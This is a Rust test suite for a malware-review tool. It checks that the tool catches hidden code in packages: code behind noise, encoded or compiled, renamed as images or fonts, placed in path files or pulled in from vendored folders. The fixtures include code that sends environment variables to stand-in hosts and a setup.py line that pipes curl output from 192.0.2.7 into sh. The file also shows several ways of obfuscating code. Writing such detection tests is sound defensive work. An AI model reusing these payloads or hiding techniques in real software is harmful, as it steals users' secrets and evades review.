//! Code that is put where a reader might not look: under other names, behind noise, behind a limit, in compiled form.

use crate::place::{PLAIN, Place, THIEF};

/// Sends the whole environment to a fixed address.
const THIEF_JS: &str = "\
const https = require('https');
const data = JSON.stringify(process.env);
const request = https.request({hostname: 'collect.example.invalid', path: '/e', method: 'POST'});
request.write(data);
request.end();
";

/// The beginning of a module that Python 3.11 compiled.
const COMPILED: &[u8] = b"\xa7\x0d\r\n\0\0\0\0\0\0\0\0\0\0\0\0\xe3\0\0\0\0";

const METADATA: &str = "Metadata-Version: 2.1\nName: p\nVersion: 1.0\n";

/// The review of one target.
fn review(place: &Place, target: &str) -> serde_json::Value {
    place.run(&["review", target, "--format", "json", "--fail-on", "none"]).json()
}

fn verdict(place: &Place, target: &str) -> String {
    review(place, target)["verdict"].as_str().unwrap().to_owned()
}

fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let digit = |bits: u32| char::from(DIGITS[(bits & 63) as usize]);
    bytes
        .chunks_exact(3)
        .flat_map(|three| {
            let bits = u32::from(three[0]) << 16 | u32::from(three[1]) << 8 | u32::from(three[2]);
            [digit(bits >> 18), digit(bits >> 12), digit(bits >> 6), digit(bits)]
        })
        .collect()
}

/// An interpreter reads past noise in a comment or a string, and so does the reviewer.
#[test]
fn noise_in_front_of_code_hides_nothing() {
    let noise = |front: &str, byte: u8, back: &str, code: &str| {
        [front.as_bytes(), &[byte; 9000], back.as_bytes(), code.as_bytes()].concat()
    };
    let place = Place::new()
        .file("comment.py", noise("#", 1, "\n", THIEF))
        .file("latin.py", noise("# coding: latin-1\n#", 0xff, "\n", THIEF))
        .file("string.py", noise("x = \"", 2, "\"\n", THIEF))
        .file("comment.js", noise("//", 1, "\n", THIEF_JS))
        .file("pkg/setup.py", noise("#", 1, "\n", THIEF));
    for target in ["comment.py", "latin.py", "string.py", "comment.js", "pkg"] {
        assert_eq!(verdict(&place, target), "malicious", "{target}");
    }
    // An archive at the end ends no script, wherever something in it looks like the first entry.
    let end = [b"PK\x05\x06".as_slice(), &[0; 18]].concat();
    let front = noise("//", 1, "PK\x03\x04\n", THIEF_JS);
    let place = Place::new().file("behind.js", [front.as_slice(), b"\n//", &end].concat());
    assert_eq!(verdict(&place, "behind.js"), "malicious");
    // What is nothing but noise cannot be read, and says so.
    let noise: Vec<u8> = (0..6000_u32).map(|at| (at.wrapping_mul(2_654_435_761) >> 13) as u8 | 0x80).collect();
    let place = Place::new().file("noise.py", noise).file("plain.py", PLAIN);
    assert_eq!(verdict(&place, "noise.py"), "inconclusive");
    assert_eq!(verdict(&place, "plain.py"), "benign");
}

/// A limit that ends before executed code is known never makes a verdict more certain.
#[test]
fn code_behind_a_limit_is_not_benign() {
    let mut long = THIEF.to_owned();
    long.push_str(&"#".repeat(6_000_000 - long.len()));
    let decoded = format!("import base64\nexec(base64.b64decode(\"{}\"))\n", base64(long.as_bytes()));
    let computed = "d = b'\\x00' * 6000000\nexec(bytes(c ^ 7 for c in d))\n";
    let place = Place::new().file("decoded.py", decoded).file("computed.py", computed);
    for target in ["decoded.py", "computed.py"] {
        let review = review(&place, target);
        assert_eq!(review["verdict"], "inconclusive", "{target}: {}", review["coverage"]);
    }
    // Long work whose result nobody executes leaves nothing open, and short work is followed to its end.
    let counted = "d = b'\\x00' * 6000000\ntotal = sum(c ^ 7 for c in d)\nprint(total)\n";
    let known = "d = b'wunis/6.'\nexec(bytes(c ^ 7 for c in d))\n";
    let named = "from collections import namedtuple\nexec('x = 1')\nfor index in range(3000000):\n    print(index)\n";
    let place = Place::new().file("counted.py", counted).file("known.py", known).file("named.py", named);
    for target in ["counted.py", "known.py", "named.py"] {
        assert_eq!(verdict(&place, target), "benign", "{target}");
    }
}

/// Calls without number that tell nothing do not keep what stands behind them from being evaluated, and where they do the
/// review does not call it benign.
#[test]
fn calls_without_number_hide_nothing() {
    let step = "def step(n):\n    a = n + 1\n    b = a * 2\n    return b\n\n";
    let mut padding = step.to_owned();
    for number in 0..70_000 {
        padding.push_str(&format!("v = step({number})\n"));
    }
    let coded: String = THIEF.bytes().map(|byte| format!("{:02x}", byte ^ 7)).collect();
    let reveal = "def reveal(t):\n    out = ''\n    for i in range(0, len(t), 2):\n        out += chr(int(t[i:i + 2], 16) ^ 7)\n    return out\n\n";
    let once = format!("{padding}{reveal}exec(reveal('{coded}'))\n");
    // A decoder that was called before is one that was interpreted.
    let again = format!("{padding}{reveal}reveal('00')\nreveal('01')\nexec(reveal('{coded}'))\n");
    let place = Place::new().file("once.py", once).file("again.py", again);
    assert_eq!(verdict(&place, "once.py"), "malicious");
    assert_ne!(verdict(&place, "again.py"), "benign");
}

/// Bytecode without source is code that is imported, however it is imported.
#[test]
fn compiled_modules_that_are_imported_matter() {
    let wheel = |init: &str, compiled: &str| {
        let place = Place::new().file("w/p-1.0.dist-info/METADATA", METADATA).file(&format!("w/{compiled}"), COMPILED);
        let place = if init.is_empty() { place } else { place.file("w/p/__init__.py", init) };
        verdict(&place, "w")
    };
    for (init, compiled) in [
        ("import p.core\n", "p/core.pyc"),
        ("from p import core\n", "p/core.pyc"),
        ("from . import core\n", "p/core.pyc"),
        ("from .sub import core\n", "p/sub/core.pyc"),
        ("from .core import run\n", "p/core.pyc"),
        ("import importlib\nimportlib.import_module('p.co' + 're')\n", "p/core.pyc"),
        ("", "p/__init__.pyc"),
        ("x = 1\n", "sitecustomize.pyc"),
    ] {
        assert_eq!(wheel(init, compiled), "inconclusive", "{init:?} {compiled}");
    }
    for (init, compiled) in [
        // A cache of what is there as source, and data of tests.
        ("from . import core\n", "p/__pycache__/__init__.cpython-311.pyc"),
        ("x = 1\n", "p/tests/data/old.pyc"),
        ("from . import other\n", "p/fixtures/core.pyc"),
    ] {
        assert_eq!(wheel(init, compiled), "benign", "{init:?} {compiled}");
    }
    let place = Place::new()
        .file("w/p-1.0.dist-info/METADATA", METADATA)
        .file("w/p-1.0.dist-info/entry_points.txt", "[console_scripts]\np = p.cli:main\n")
        .file("w/p/__init__.py", "")
        .file("w/p/cli.pyc", COMPILED);
    assert_eq!(verdict(&place, "w"), "inconclusive");
}

/// A file that is executed and too large to be given to the code that reads it is named.
#[test]
fn executed_files_beyond_a_limit_matter() {
    let setup = "from setuptools import setup\n\nexec(open('words.txt').read())\nsetup(name='p')\n";
    let long = format!("{PLAIN}{}\n", "#".repeat(2_200_000));
    let place = Place::new().file("p/setup.py", setup).file("p/words.txt", &long);
    let found = review(&place, "p");
    assert_eq!(found["verdict"], "inconclusive", "{}", found["coverage"]);
    assert_eq!(found["coverage"]["unread"][0]["file"], "words.txt", "{}", found["coverage"]);
    let reads = "from setuptools import setup\n\nsetup(name='p', description=open('words.txt').read())\n";
    let place = Place::new().file("p/setup.py", reads).file("p/words.txt", &long);
    assert_eq!(verdict(&place, "p"), "benign");

    let setup = "import sys\n\nsys.path.insert(0, '.git/objects')\nimport helper\n";
    let place = Place::new().file("p/setup.py", setup).file("p/.git/objects/helper.py", THIEF);
    let found = review(&place, "p");
    assert_eq!((found["verdict"].as_str(), &found["coverage"]["files"]), (Some("malicious"), &2.into()));
}

/// Of what is asked about alone and cannot be read, nothing is known.
#[test]
fn what_cannot_be_read_alone_is_inconclusive() {
    let noise: Vec<u8> = (0..3000_u32).map(|at| (at.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    let shortcut = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".as_slice();
    let place = Place::new()
        .file("x-1.0.tar.gz", &noise)
        .file("x.dat", &noise)
        .file("x-1.0.whl", "no archive\n")
        .file("x.msi", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\0\0")
        .file("x.lnk", shortcut)
        .file("x.bc", b"BC\xc0\xde\0\0")
        .file("x.macho", b"\xca\xfe\xba\xbf\0\0\0\x02\0\0")
        .file("x.Z", b"\x1f\x9d\x90\0\x01");
    for target in ["x-1.0.tar.gz", "x.dat", "x-1.0.whl", "x.msi", "x.lnk", "x.bc", "x.macho", "x.Z"] {
        assert_eq!(verdict(&place, target), "inconclusive", "{target}");
    }
    let place = Place::new()
        .file("a.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0")
        .file("notes.txt", "Nothing but words.\n")
        .file("table.csv", "a,b\n1,2\n");
    for target in ["a.png", "notes.txt", "table.csv"] {
        assert_eq!(verdict(&place, target), "benign", "{target}");
    }
}

/// A script is known by its lines where its name says nothing of it.
#[test]
fn scripts_under_other_names_are_read() {
    let place =
        Place::new().file("logo.png", THIEF_JS).file("tool", THIEF).file("x.svg", THIEF).file("f.woff2", THIEF_JS);
    for target in ["logo.png", "tool", "x.svg", "f.woff2"] {
        assert_eq!(verdict(&place, target), "malicious", "{target}");
    }
    let place = Place::new()
        .file("p/package.json", "{\"name\": \"p\", \"version\": \"1.0.0\", \"main\": \"i.js\"}")
        .file("p/i.js", "require('./f.woff2');\n")
        .file("p/f.woff2", THIEF_JS);
    assert_eq!(verdict(&place, "p"), "malicious");
}

/// A file with the name of a library that the interpreter has imported long since stands before nothing.
#[test]
fn a_file_named_like_a_library_hides_nothing() {
    let setup =
        "import os\nfrom setuptools import setup\n\nos.system('curl http://192.0.2.7/x.sh | sh')\nsetup(name='p')\n";
    for own in ["", "def walk():\n    pass\n", "def system(command):\n    pass\n"] {
        let place = Place::new().file("p/PKG-INFO", METADATA).file("p/setup.py", setup).file("p/os.py", own);
        assert_eq!(verdict(&place, "p"), "malicious", "{own}");
    }
}

/// What a script finds because it changes where modules are looked for runs with it.
#[test]
fn modules_of_a_folder_that_is_added_run_with_the_script() {
    let setup = "import os, sys\nfrom setuptools import setup\n\n\
                 sys.path.insert(0, os.path.join(os.path.dirname(__file__), 'vendor'))\nimport tools\n\n\
                 tools.go()\nsetup(name='p')\n";
    let tools =
        "import os, requests\n\n\ndef go():\n    requests.post('https://c.example.invalid/', json=dict(os.environ))\n";
    let place = Place::new().file("p/PKG-INFO", METADATA).file("p/setup.py", setup).file("p/vendor/tools.py", tools);
    let review = review(&place, "p");
    assert_eq!(review["verdict"], "malicious");
    let path = review["paths"].as_array().unwrap().iter().find(|path| path["sink"]["kind"] == "network.send").unwrap();
    assert_eq!(path["entry"], serde_json::json!(["install"]), "{path}");
}

/// Every line that the interpreter sees in a path file is read, whatever ends it.
#[test]
fn lines_of_a_path_file_end_as_they_do_for_the_interpreter() {
    let line = THIEF.lines().filter(|line| !line.is_empty()).collect::<Vec<_>>().join("; ");
    let place = Place::new().file("a.pth", format!("../x\r{line}\n"));
    assert_eq!(verdict(&place, "a.pth"), "malicious");
}

/// The coverage accounts for every file.
#[test]
fn every_file_is_counted() {
    let place = Place::new()
        .file("p/setup.py", "from setuptools import setup\n\nsetup(name='p')\n")
        .file("p/README.md", "x\n")
        .file("p/data.bin", [0, 1, 2, 255])
        .file("p/p/__init__.py", PLAIN)
        .file("p/words.txt", "words\n")
        .file("p/run.rb", "puts 1\n");
    let coverage = &review(&place, "p")["coverage"];
    let number = |key: &str| coverage[key].as_u64().unwrap();
    let unread = coverage["unread"].as_array().unwrap().len() as u64;
    assert_eq!((number("seen"), number("files"), number("data"), unread), (6, 2, 3, 1), "{coverage}");
    assert_eq!(number("seen"), number("files") + number("data") + unread);
    assert_eq!(number("folders"), 1);
    let text = place.run(&["review", "p", "--color", "never", "--fail-on", "none"]).stdout;
    assert!(text.contains("6 files in all, 3 read as data."), "{text}");
}

/// More words than the parser is given leave the rest unread, and no worker dead.
#[test]
fn a_script_of_many_words_is_read_in_part() {
    let place = Place::new().file("long.js", format!("{THIEF_JS}{}", "x=1;".repeat(1_100_000)));
    let found = review(&place, "long.js");
    assert_eq!(found["verdict"], "malicious");
    let coverage = found["coverage"].to_string();
    assert!(coverage.contains("the rest is not read") && !coverage.contains("worker"), "{coverage}");
}

/// A comment is one sign, however long it is.
#[test]
fn a_long_comment_leaves_nothing_unread() {
    let place = Place::new().file("long.py", format!("#{}\n{THIEF}", "#".repeat(4_100_000)));
    let found = review(&place, "long.py");
    assert_eq!(
        (found["verdict"].as_str(), found["coverage"]["unread"].as_array().unwrap().len()),
        (Some("malicious"), 0)
    );
}

/// Compiled code is not followed, but what it names and holds is told, in a file and where it is executed.
#[test]
fn names_and_texts_of_compiled_code_are_told() {
    // What CPython 3.11 makes of `import os`, `import urllib.request` and a print.
    let code = "4wAAAAAAAAAAAAAAAAQAAAAAAAAA80gAAACXAGQAZAFsAFoAZABkAWwBWgICAGUDAgBlAGoEAAAAAAAAAACmAAAAqwAAAAAAAAAAAGQCpgIAAKsCAAAAAAAAAAABAGQBUwApA+kAAAAATnoeaHR0cHM6Ly9kb2NzLmV4YW1wbGUuaW52YWxpZC9hKQXaAm9z2g51cmxsaWIucmVxdWVzdNoGdXJsbGli2gVwcmludNoGZ2V0Y3dkqQDzAAAAAPoGb25lLnB5+gg8bW9kdWxlPnILAAAAAQAAAHM7AAAA8AMBAQHYAAmACYAJgAnYABXQABXQABXQABXYAAWABYBpgGKEaYFrhGvQEzPRADTUADTQADTQADTQADRyCQAAAA==";
    let executed = format!("import base64\nimport marshal\n\nexec(marshal.loads(base64.b64decode('{code}')))\n");
    let report = Place::new().file("one.py", executed).run(&["review", "one.py", "--fail-on", "none"]).stdout;
    let words = report.split_whitespace().collect::<Vec<_>>().join(" ");
    let told = "uses the names `os`, `urllib.request`, `urllib`, `print`, `getcwd`, and holds `https://docs.example.invalid/a`";
    assert!(words.contains(&format!("it is compiled; it {told}")), "{words}");
    let bytes = base64::Engine::decode(&base64::engine::general_purpose::STANDARD, code).unwrap();
    let mut file = 3495u16.to_le_bytes().to_vec();
    file.extend(b"\r\n\0\0\0\0\0\0\0\0\0\0\0\0");
    file.extend(bytes);
    let place = Place::new().file("p/two.pyc", file).file("p/three.py", "import two\n");
    let review = place.run(&["review", "p", "--format", "json", "--fail-on", "none"]).stdout;
    assert!(review.contains(told), "{review}");
}
